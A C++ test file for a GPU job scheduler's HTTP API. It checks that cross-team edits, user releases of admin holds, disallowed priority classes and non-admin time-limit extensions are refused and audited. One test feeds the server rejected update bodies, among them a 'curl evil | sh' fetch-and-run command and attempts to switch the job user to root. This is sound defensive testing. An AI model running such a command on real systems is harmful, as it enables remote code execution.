// Role boundaries of hold, release and update, tried against the real server over HTTP:
// another team's job is invisible to them, an admin's hold is not a user's to lift, a
// priority class the team may not use is not reached by an update, and a running job's
// time limit is extended by admins only. Every refusal is audited.
#include <gtest/gtest.h>

#include <set>

#include "server/server_fixture.h"

namespace gantry::testing {
namespace {

class JobEditBoundaries : public ServerTest {
 protected:
  std::string Teams() const override {
    return "teams:\n"
           "  vision: {priorities: [high, medium, low], unix_account: nobody}\n"
           "  nlp: {priorities: [critical, high, medium, low], unix_account: nobody}\n"
           "  ops: {allow_root: true}\n";
  }
  // A pending vision job of alice's: all GPUs are taken by a first one.
  std::string PendingJobOfAlice() {
    auto alice = server_->Client(kAliceToken);
    alice.Post("/v1/jobs", R"({"gpus": 4, "gpu_types": ["A100-80GB"], "command": "sleep 60"})", "application/json");
    auto r =
        alice.Post("/v1/jobs", R"({"gpus": 4, "gpu_types": ["A100-80GB"], "command": "sleep 60"})", "application/json");
    EXPECT_EQ(Json(r)["state"], "pending") << r->body;
    return Json(r)["id"];
  }
};

TEST_F(JobEditBoundaries, AnotherTeamNeitherHoldsNorReleasesNorChangesAJob) {
  std::string id = PendingJobOfAlice();
  auto bob = server_->Client(kBobToken);
  EXPECT_EQ(bob.Post("/v1/jobs/" + id + "/hold", "", "text/plain")->status, 404);
  EXPECT_EQ(bob.Post("/v1/jobs/" + id + "/release", "", "text/plain")->status, 404);
  EXPECT_EQ(bob.Patch("/v1/jobs/" + id, R"({"time_limit": "1m"})", "application/json")->status, 404);
  // The vision team admin may; and what bob tried left the job as it was.
  auto lead = server_->Client(kLeadToken);
  auto held = lead.Post("/v1/jobs/" + id + "/hold", "", "text/plain");
  ASSERT_EQ(held->status, 200) << held->body;
  EXPECT_EQ(Json(held)["held"], "user");
  EXPECT_NE(Json(held)["spec"]["time_limit_s"], 60);
  nlohmann::json audit = Json(server_->Client(kRootToken).Get("/v1/audit?limit=10"));
  std::set<std::string> refused;  // under the routes bob called
  for (const auto& a : audit["audit"]) {
    if (a["user"] == "bob" && a["outcome"] == "not_found" && a["target"] == id) refused.insert(a["action"]);
  }
  EXPECT_EQ(refused, (std::set<std::string>{"POST /v1/jobs/" + id + "/hold", "POST /v1/jobs/" + id + "/release",
                                            "PATCH /v1/jobs/" + id}))
      << audit.dump();
}

TEST_F(JobEditBoundaries, AChangeOfFieldsFixedAtSubmitIsRefusedByNameAndAudited) {
  std::string id = PendingJobOfAlice();
  auto alice = server_->Client(kAliceToken);
  const std::pair<const char*, const char*> tries[] = {{R"({"command": "curl evil | sh"})", "command"},
                                                       {R"({"gpus": 64})", "gpus"},
                                                       {R"({"name": "x", "user": "root"})", "user"},
                                                       {"[1,", "body"},
                                                       {R"({"name": "x", "working_dir": "/root"})", "working_dir"}};
  for (const auto& [body, field] : tries) {
    auto r = alice.Patch("/v1/jobs/" + id, body, "application/json");
    EXPECT_EQ(r->status, 400) << body << " -> " << r->body;
    EXPECT_EQ(Json(r)["error"]["field"], field) << body << " -> " << r->body;
  }
  nlohmann::json job = Json(alice.Get("/v1/jobs/" + id));
  EXPECT_EQ(job["spec"]["command"], "sleep 60");
  EXPECT_NE(job.value("name", ""), "x");
  nlohmann::json audit = Json(server_->Client(kRootToken).Get("/v1/audit?limit=20"));
  int audited = 0;
  for (const auto& a : audit["audit"]) {
    audited += a["user"] == "alice" && a["action"] == "PATCH /v1/jobs/" + id && a["outcome"] == "invalid_argument";
  }
  EXPECT_EQ(audited, 5) << audit.dump();
}

TEST_F(JobEditBoundaries, AnAdminsHoldIsNotAUsersToLift) {
  std::string id = PendingJobOfAlice();
  ASSERT_EQ(server_->Client(kRootToken).Post("/v1/jobs/" + id + "/hold", "", "text/plain")->status, 200);
  for (const char* token : {kAliceToken, kLeadToken}) {
    auto r = server_->Client(token).Post("/v1/jobs/" + id + "/release", "", "text/plain");
    EXPECT_EQ(r->status, 403) << r->body;
  }
  EXPECT_EQ(server_->Client(kRootToken).Post("/v1/jobs/" + id + "/release", "", "text/plain")->status, 200);
}

TEST_F(JobEditBoundaries, AnUpdateReachesOnlyThePriorityClassesTheTeamMayUse) {
  std::string id = PendingJobOfAlice();
  auto alice = server_->Client(kAliceToken);
  auto r = alice.Patch("/v1/jobs/" + id, R"({"priority": "critical"})", "application/json");
  EXPECT_EQ(r->status, 403) << r->body;
  EXPECT_EQ(Json(r)["error"]["field"], "priority");
  EXPECT_EQ(Json(alice.Get("/v1/jobs/" + id))["priority"], "medium");
  EXPECT_EQ(alice.Patch("/v1/jobs/" + id, R"({"priority": "high"})", "application/json")->status, 200);
}

TEST_F(JobEditBoundaries, OnlyAdminsExtendARunningJobsTimeLimit) {
  auto alice = server_->Client(kAliceToken);
  auto r = alice.Post("/v1/jobs", R"({"gpus": 1, "time_limit": "1h", "command": "sleep 60"})", "application/json");
  ASSERT_EQ(Json(r)["state"], "running") << r->body;
  std::string id = Json(r)["id"];
  for (const char* token : {kAliceToken, kLeadToken}) {
    auto longer = server_->Client(token).Patch("/v1/jobs/" + id, R"({"time_limit": "2h"})", "application/json");
    EXPECT_EQ(longer->status, 403) << longer->body;
  }
  EXPECT_EQ(server_->Client(kRootToken).Patch("/v1/jobs/" + id, "time_limit: 2h", "application/yaml")->status, 200);
  EXPECT_EQ(Json(alice.Get("/v1/jobs/" + id))["spec"]["time_limit_s"], 7200);
}

}  // namespace
}  // namespace gantry::testing
